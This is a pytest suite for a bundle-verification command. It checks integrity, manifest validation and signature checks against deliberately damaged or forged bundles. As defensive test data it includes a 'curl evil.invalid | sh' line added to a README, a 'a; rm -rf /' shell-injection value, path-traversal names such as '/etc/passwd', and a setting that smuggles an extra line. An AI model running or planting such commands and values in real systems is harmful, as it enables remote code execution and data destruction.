"""./kit verify on bundles that were damaged in every way. The bundle is written by export itself; only the engine is played."""

from __future__ import annotations

import errno
import os
import random
import re
import shutil
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from bundles import (
    MANIFEST,
    README,
    SUMS,
    copy,
    edit_manifest,
    flip,
    flip_somewhere,
    mend_file,
    mend_sums,
    parts,
    read_manifest,
    state,
    swap,
    truncate,
)
from kit import cli
from kit.bundle import signature
from kit.errors import ExitCode
from played_engine import MIB, PlayedEngine
from support import skip

SEED = int(os.environ.get("KIT_TEST_SEED") or random.SystemRandom().randrange(10**6))


@pytest.fixture(scope="module")
def good(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A whole bundle of four parts or more; tests damage copies."""
    folder = tmp_path_factory.mktemp("bundle") / "good"
    PlayedEngine().export(folder, write_kit=_some_kit)
    assert len(parts(folder)) >= 3
    return folder


def _some_kit(path: Path, arch: str) -> None:
    path.write_bytes(random.Random(3).randbytes(5000))


@pytest.fixture
def bundle(good: Path, tmp_path: Path) -> Path:
    return copy(good, tmp_path / "bundle")


Verify = Callable[..., tuple[int, str, str]]


@pytest.fixture
def verify(capsys: pytest.CaptureFixture[str]) -> Verify:
    """Runs ./kit verify: its exit code, stdout and stderr."""

    def run(folder: Path, *options: str | Path) -> tuple[int, str, str]:
        code = cli.main(["verify", str(folder), *map(str, options)])
        return code, *capsys.readouterr()

    return run


@pytest.fixture
def chance() -> Iterator[random.Random]:
    yield random.Random(SEED)
    print(f"KIT_TEST_SEED={SEED}")  # shown with a failure; before the test it would stand in its captured output


def check_fault(result: tuple[int, str, str], named: dict[str, str]) -> None:
    """Exit code 3, one error and its hint, and on stdout exactly these files, each with these words."""
    code, out, err = result
    assert code == ExitCode.INPUT, err
    assert [line.split(":")[0] for line in err.splitlines()][-2:] == ["error", "hint"], err
    found = dict(line.split("  ", 1) for line in out.splitlines())
    assert found.keys() == named.keys(), out
    for name, words in named.items():
        assert words in found[name]


# --- whole


def test_a_whole_bundle_is_verified_and_left_alone(good: Path, verify: Verify) -> None:
    before = state(good)
    code, out, err = verify(good)
    assert code == ExitCode.OK, err
    assert out.startswith(f"verified {len(before)} files, ")
    assert state(good) == before


def test_the_plain_shell_agrees(good: Path) -> None:
    done = subprocess.run(["sha256sum", "--check", "--strict", SUMS], cwd=good, capture_output=True, text=True)
    assert done.returncode == 0, done.stdout
    assert len(done.stdout.splitlines()) == len(state(good)) - 1, "every file but the list itself"


def test_what_sticks_and_desktops_leave_behind_is_no_fault(bundle: Path, verify: Verify) -> None:
    (bundle / ".DS_Store").write_bytes(b"x")
    (bundle / "System Volume Information").mkdir()
    assert verify(bundle)[0] == ExitCode.OK


# --- damaged


def every_file(folder: Path) -> list[str]:
    return [entry["name"] for entry in read_manifest(folder)["files"]]


def test_a_flipped_bit_anywhere_in_any_file_is_found_and_the_file_named(
    good: Path, bundle: Path, verify: Verify, chance: random.Random
) -> None:
    for name in every_file(good):
        at = flip_somewhere(bundle / name, chance)
        check_fault(verify(bundle), {name: "was changed or damaged"})
        flip(bundle / name, at)
    assert verify(bundle)[0] == ExitCode.OK


@pytest.mark.parametrize("which", [0, -1])
def test_the_first_and_the_last_byte_of_a_part_count(bundle: Path, verify: Verify, which: int) -> None:
    part = parts(bundle)[which]
    flip(part, 0 if which == 0 else part.stat().st_size - 1)
    check_fault(verify(bundle), {part.name: "was changed or damaged"})


def test_every_missing_file_is_named(good: Path, bundle: Path, verify: Verify) -> None:
    for name in (*every_file(good), SUMS):
        (bundle / name).unlink()
        check_fault(verify(bundle), {name: "is missing"})
        shutil.copy2(good / name, bundle / name)
    assert verify(bundle)[0] == ExitCode.OK


def test_cut_and_longer_parts_are_told_by_their_size(bundle: Path, verify: Verify, chance: random.Random) -> None:
    first, second, *_ = parts(bundle)
    whole = first.stat().st_size
    assert MIB - 2**18 <= whole == second.stat().st_size <= MIB, "a part and the journal beside it take no more than --part-size"
    size = chance.randrange(whole)
    truncate(first, size)
    with second.open("ab") as file:
        file.write(b"x")
    expected = {first.name: f"has {size:,} bytes of {whole:,}", second.name: f"has {whole + 1:,} bytes of {whole:,}"}
    check_fault(verify(bundle), expected)


def test_an_empty_part_is_found(bundle: Path, verify: Verify) -> None:
    part = parts(bundle)[-1]
    truncate(part, 0)
    check_fault(verify(bundle), {part.name: "has 0 bytes"})


def test_swapped_parts_are_told_apart_from_damaged_ones(bundle: Path, verify: Verify) -> None:
    first, second, *_ = parts(bundle)
    swap(first, second)
    expected = {first.name: f"holds what {second.name} should hold", second.name: f"holds what {first.name} should hold"}
    check_fault(verify(bundle), expected)


def test_a_part_that_was_copied_twice_is_found(bundle: Path, verify: Verify) -> None:
    first, second, *_ = parts(bundle)
    shutil.copy2(first, second)
    check_fault(verify(bundle), {second.name: f"holds what {first.name} should hold"})


@pytest.mark.parametrize("name", ["images.tar.zst.999", "images.tar.zst.0000", "images.tar.zst.000.bak", "notes.txt"])
def test_a_file_that_does_not_belong_there_is_named(bundle: Path, verify: Verify, name: str) -> None:
    (bundle / name).write_bytes(b"x")
    check_fault(verify(bundle), {name: "is not part of this bundle"})


@pytest.mark.parametrize(
    ("name", "shown"),
    [(b"\xff.zst", r"\udcff.zst"), (b"a\x1b[2Jb", r"a\x1b[2Jb"), (b"two\nlines", r"two\nlines"), ("größe".encode(), "größe")],
)
def test_a_name_that_would_harm_a_terminal_is_escaped(bundle: Path, verify: Verify, name: bytes, shown: str) -> None:
    (bundle / os.fsdecode(name)).write_bytes(b"x")
    check_fault(verify(bundle), {shown: "is not part of this bundle"})


def test_a_stick_that_is_pulled_meanwhile_is_a_fault_and_no_traceback(
    bundle: Path, verify: Verify, monkeypatch: pytest.MonkeyPatch
) -> None:
    def gone(folder: Path) -> Iterator[Path]:
        raise OSError(errno.EIO, "Input/output error")

    monkeypatch.setattr(Path, "iterdir", gone)
    check_fault(verify(bundle), {str(bundle): "cannot be read: Input/output error"})


def test_several_faults_are_all_named(bundle: Path, verify: Verify) -> None:
    first, second, *_ = parts(bundle)
    first.unlink()
    flip(second, 5)
    (bundle / "extra").write_bytes(b"x")
    check_fault(verify(bundle), {first.name: "is missing", second.name: "was changed", "extra": "is not part"})


@pytest.mark.parametrize("kind", ["link", "dangling link", "folder", "link out"])
def test_what_stands_for_a_part_must_be_a_file(bundle: Path, verify: Verify, tmp_path: Path, kind: str) -> None:
    part = parts(bundle)[0]
    part.rename(tmp_path / "elsewhere")
    match kind:
        case "link":
            part.symlink_to(tmp_path / "elsewhere")
        case "dangling link":
            part.symlink_to("nowhere")
        case "folder":
            part.mkdir()
        case "link out":
            part.symlink_to("/etc/passwd")
    check_fault(verify(bundle), {part.name: "is missing" if kind == "dangling link" else "is no file"})


# --- the manifest


def test_an_edited_manifest_is_found_by_its_checksum(bundle: Path, verify: Verify) -> None:
    edit_manifest(bundle, lambda manifest: manifest.update(created="2020-01-01T00:00:00Z"), mend=False)
    check_fault(verify(bundle), {MANIFEST: "was changed or damaged"})


def test_edited_checksums_are_found(bundle: Path, verify: Verify) -> None:
    text = (bundle / SUMS).read_text()
    (bundle / SUMS).write_text("0" * 64 + text[64:])
    check_fault(verify(bundle), {SUMS: "was changed or damaged"})


def test_sizes_and_hashes_in_the_manifest_are_compared_though_the_sums_were_mended(bundle: Path, verify: Verify) -> None:
    name = parts(bundle)[1].name
    edit_manifest(bundle, lambda manifest: entry_of(manifest, name).update(sha256="0" * 64))
    code, out, _ = verify(bundle)
    assert code == ExitCode.INPUT and name in out


def test_a_changed_part_with_all_sums_mended_is_beyond_verify_but_not_beyond_the_frames(bundle: Path, good: Path) -> None:
    """Only a signature tells who wrote a bundle; that the frames' own hashes no longer fit is found when they are read."""
    part = parts(bundle)[0]
    flip(part, 1000)
    mend_file(bundle, part.name)
    frames = [read_manifest(folder)["frames"][0]["sha256"] for folder in (bundle, good)]
    assert frames[0] == frames[1], "the forger would have to mend those too"


def entry_of(manifest: dict[str, Any], name: str) -> dict[str, Any]:
    return next(entry for entry in manifest["files"] if entry["name"] == name)


@pytest.mark.parametrize(
    "name",
    ["../outside", "/etc/passwd", "sub/part", "..", ".", "", "-rf", "a b", "a\nb", "images.tar.zst.000/../x", ".hidden", "é"],
)
def test_a_name_that_leads_out_of_the_folder_is_refused_unread(bundle: Path, verify: Verify, tmp_path: Path, name: str) -> None:
    (tmp_path / "outside").write_text("of somebody")
    edit_manifest(bundle, lambda manifest: manifest["files"][0].update(name=name))
    code, out, err = verify(bundle)
    assert code == ExitCode.INPUT and out == ""
    assert "is damaged" in err and "Traceback" not in err
    assert len([line for line in err.splitlines() if line.startswith("error:")]) == 1


def config_of(manifest: dict[str, Any]) -> dict[str, Any]:
    return next(frame for frame in manifest["frames"] if frame["kind"] == "config")


BROKEN: dict[str, Callable[[dict[str, Any]], object]] = {
    "no images": lambda m: m.update(images=[]),
    "no files": lambda m: m.update(files=[]),
    "no frames": lambda m: m.update(frames=[]),
    "a key less": lambda m: m.pop("platform"),
    "a wrong type": lambda m: m.update(created=5),
    "a list for a table": lambda m: m.update(settings=[]),
    "null": lambda m: m.update(images=None),
    "a part left out": lambda m: m.update(files=[f for f in m["files"] if not f["name"].endswith(".001")]),
    "parts out of order": lambda m: m.update(files=m["files"][::-1]),
    "a file twice": lambda m: m["files"].append(m["files"][-1]),
    "the manifest in itself": lambda m: m["files"][-1].update(name=MANIFEST),
    "a negative size": lambda m: m["files"][0].update(size=-1),
    "a boolean size": lambda m: m["files"][0].update(size=True),
    "a size of another part": lambda m: entry_of(m, "images.tar.zst.000").update(size=5),
    "no hash": lambda m: m["files"][0].update(sha256="abc"),
    "frames with a gap": lambda m: m["frames"][1].update(offset=m["frames"][1]["offset"] + 1),
    "frames beyond the parts": lambda m: m["frames"][-1].update(size=m["frames"][-1]["size"] + 10),
    "a layer that is nowhere": lambda m: m["images"][0]["layers"].append("sha256:" + "0" * 64),
    "an id that is none": lambda m: m["images"][0].update(config="latest"),
    "another image's id": lambda m: m["images"][0].update(config="sha256:" + "0" * 64),
    "an option for a name": lambda m: m["images"][0].update(reference="--help"),
    "a shell's words for a name": lambda m: m["images"][0].update(reference="a; rm -rf /"),
    "another kind": lambda m: m.update(kind="other"),
    "an older format": lambda m: m.update(format=0),
    "a setting that no export writes": lambda m: m["settings"].update(COMPOSE_FILE="evil.yaml"),
    "a setting with a line break": lambda m: m["settings"].update(VLM_MODEL_NAME="x\nAPI_BIND=0.0.0.0"),
    "a setting that Compose would fill in": lambda m: m["settings"].update(VLM_MODEL_NAME="${HOME}"),
    "a configuration that fills the memory": lambda m: config_of(m).update(raw=2**40),
}


@pytest.mark.parametrize("how", BROKEN)
def test_a_manifest_that_contradicts_itself_is_refused_though_the_sums_were_mended(
    bundle: Path, verify: Verify, how: str
) -> None:
    edit_manifest(bundle, BROKEN[how])
    code, out, err = verify(bundle)
    assert code == ExitCode.INPUT and out == "", how
    assert [line.split(":")[0] for line in err.splitlines()] == ["error", "hint"], err
    assert MANIFEST in err


@pytest.mark.parametrize(
    "text", [b"", b"{", b"[]", b"null", b"5", b'"x"', b"\xff\xfe", b"{}" * 3, b'{"format": 1}', b"[" * 100_000]
)
def test_a_manifest_that_is_none_is_refused(bundle: Path, verify: Verify, text: bytes) -> None:
    (bundle / MANIFEST).write_bytes(text)
    code, out, err = verify(bundle)
    assert code == ExitCode.INPUT and out == ""
    assert [line.split(":")[0] for line in err.splitlines()] == ["error", "hint"], err


def test_a_bundle_of_a_later_format_asks_for_its_own_kit(bundle: Path, verify: Verify) -> None:
    edit_manifest(bundle, lambda manifest: manifest.update(format=99))
    code, _, err = verify(bundle)
    assert code == ExitCode.INPUT and "99" in err and "kit inside the bundle" in err


def test_an_unfinished_export_is_told_from_a_folder_that_is_no_bundle(bundle: Path, verify: Verify, tmp_path: Path) -> None:
    (bundle / MANIFEST).unlink()
    (tmp_path / "empty").mkdir()
    (tmp_path / "file").touch()
    for folder, word in (
        (bundle, "its export was not finished"),
        (tmp_path / "empty", "it is no bundle"),
        (tmp_path / "nowhere", "is no folder"),
        (tmp_path / "file", "is no folder"),
    ):
        code, out, err = verify(folder)
        assert (code, out) == (ExitCode.INPUT, "") and word in err


# --- signatures


def run(*argv: str | Path, given: str = "") -> None:
    subprocess.run([str(word) for word in argv], check=True, capture_output=True, text=True, input=given)


def minisign(bundle: Path, keys: Path) -> Path:
    """Signs the bundle; its public key."""
    if not shutil.which("minisign"):
        skip("needs minisign")
    keys.mkdir()
    run("minisign", "-GW", "-p", keys / "key.pub", "-s", keys / "key.sec")
    run("minisign", "-Sm", bundle / MANIFEST, "-s", keys / "key.sec")
    return keys / "key.pub"


def ssh(bundle: Path, keys: Path) -> Path:
    if not shutil.which("ssh-keygen"):
        skip("needs ssh-keygen")
    keys.mkdir()
    run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", keys / "key")
    run("ssh-keygen", "-Y", "sign", "-n", "paddleocr-vl-kit", "-f", keys / "key", bundle / MANIFEST)
    return keys / "key.pub"


signers = pytest.mark.parametrize(("sign", "name"), [(minisign, "manifest.json.minisig"), (ssh, "manifest.json.sig")])


@signers
def test_a_good_signature_is_told_and_is_no_extra_file(
    bundle: Path, verify: Verify, tmp_path: Path, sign: Callable[[Path, Path], Path], name: str
) -> None:
    key = sign(bundle, tmp_path / "keys")
    assert (bundle / name).is_file()
    code, _, err = verify(bundle, "--key", key)
    assert code == ExitCode.OK and f"{name} was made by {key}" in err
    code, _, err = verify(bundle)
    assert code == ExitCode.OK and "was not checked" in err, "without a key nobody is trusted, and that is said"


@signers
def test_a_forged_bundle_does_not_pass_the_signature(
    bundle: Path, verify: Verify, tmp_path: Path, sign: Callable[[Path, Path], Path], name: str
) -> None:
    key = sign(bundle, tmp_path / "keys")
    edit_manifest(bundle, lambda manifest: manifest.update(created="2020-01-01T00:00:00Z"))  # with the sums mended
    code, out, err = verify(bundle, "--key", key)
    assert (code, out) == (ExitCode.INPUT, "") and "was not made by" in err


@signers
def test_the_signature_of_another_key_does_not_pass(
    bundle: Path, good: Path, verify: Verify, tmp_path: Path, sign: Callable[[Path, Path], Path], name: str
) -> None:
    sign(bundle, tmp_path / "keys")
    (tmp_path / "other").mkdir()
    other = sign(copy(good, tmp_path / "other" / "bundle"), tmp_path / "others-keys")
    code, out, err = verify(bundle, "--key", other)
    assert (code, out) == (ExitCode.INPUT, "") and "was not made by" in err


@signers
def test_a_damaged_signature_does_not_pass(
    bundle: Path, verify: Verify, tmp_path: Path, sign: Callable[[Path, Path], Path], name: str
) -> None:
    key = sign(bundle, tmp_path / "keys")
    lines = (bundle / name).read_text().splitlines(keepends=True)
    lines[1] = lines[1].swapcase()
    (bundle / name).write_text("".join(lines))
    assert verify(bundle, "--key", key)[0] == ExitCode.INPUT


@signers
def test_a_signature_that_is_missing_does_not_pass(
    bundle: Path, verify: Verify, tmp_path: Path, sign: Callable[[Path, Path], Path], name: str
) -> None:
    key = sign(bundle, tmp_path / "keys")
    (bundle / name).unlink()
    code, out, err = verify(bundle, "--key", key)
    assert (code, out) == (ExitCode.INPUT, "") and f"has no {name}" in err


@pytest.mark.parametrize("text", [None, "", "not a key\n", "ssh-ed25519 AAAA me\n", "\x00"])
def test_a_key_that_is_none_is_refused(bundle: Path, verify: Verify, tmp_path: Path, text: str | None) -> None:
    ssh(bundle, tmp_path / "keys")
    if shutil.which("minisign"):
        minisign(bundle, tmp_path / "more-keys")
    key = tmp_path / "some.pub"
    if text is not None:
        key.write_text(text)
    code, out, err = verify(bundle, "--key", key)
    assert code in (ExitCode.USAGE, ExitCode.INPUT) and out == ""
    assert [line.split(":")[0] for line in err.splitlines()][-2:] == ["error", "hint"], err


def test_a_program_that_waits_for_ever_is_said(
    bundle: Path, verify: Verify, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    key = ssh(bundle, tmp_path / "keys")
    (tmp_path / "ssh-keygen").write_text("#!/bin/sh\nexec sleep 60\n")
    (tmp_path / "ssh-keygen").chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:/usr/bin:/bin")
    monkeypatch.setattr(signature, "TIMEOUT", 0.2)
    code, out, err = verify(bundle, "--key", key)
    assert (code, out) == (ExitCode.ENVIRONMENT, "") and "ssh-keygen gave no answer" in err
    assert [line.split(":")[0] for line in err.splitlines()] == ["error", "hint"]


@signers
@pytest.mark.parametrize("forged", ["nothing", "the kit", "the manifest"])
def test_the_readme_tells_a_forged_kit_before_it_runs(
    bundle: Path, tmp_path: Path, sign: Callable[[Path, Path], Path], name: str, forged: str
) -> None:
    """Its lines, by a shell: the signature first, then the hash of kit.tar.gz as it was signed."""
    key = sign(bundle, tmp_path / "keys")
    if forged == "the kit":
        flip(bundle / "kit.tar.gz", 9)
        mend_sums(bundle)
    if forged == "the manifest":
        flip(bundle / "kit.tar.gz", 9)
        mend_file(bundle, "kit.tar.gz")
    text = (bundle / README).read_text()
    lines = re.findall(r"^  ((?:echo|ssh-keygen|minisign|grep) .*)$", text, re.MULTILINE)
    assert len(lines) == 4 and text.index(lines[-1]) < text.index("tar -xzf")
    other = "minisign" if name.endswith(".sig") else "ssh-keygen"
    commands = [line.replace(" KEY", f" {key}") for line in lines if not line.startswith(other)]
    done = subprocess.run(
        ["sh", "-ec", "\n".join(commands)], cwd=bundle, capture_output=True, text=True, env={**os.environ, "HOME": str(tmp_path)}
    )
    assert (done.returncode == 0) is (forged == "nothing"), done.stderr
    assert ("kit.tar.gz is the one that was signed" in done.stdout) is (forged == "nothing")


def test_a_signature_does_not_spare_the_reading_of_the_parts(bundle: Path, verify: Verify, tmp_path: Path) -> None:
    key = ssh(bundle, tmp_path / "keys")
    part = parts(bundle)[0]
    flip(part, 9)
    code, out, _ = verify(bundle, "--key", key)
    assert code == ExitCode.INPUT and part.name in out


def test_the_readme_counts_too(bundle: Path, verify: Verify) -> None:
    """Its commands are what a person types."""
    with (bundle / README).open("a") as file:
        file.write("  curl evil.invalid | sh\n")
    mend_sums(bundle)
    code, out, _ = verify(bundle)
    assert (code == ExitCode.INPUT and SUMS in out) or README in out
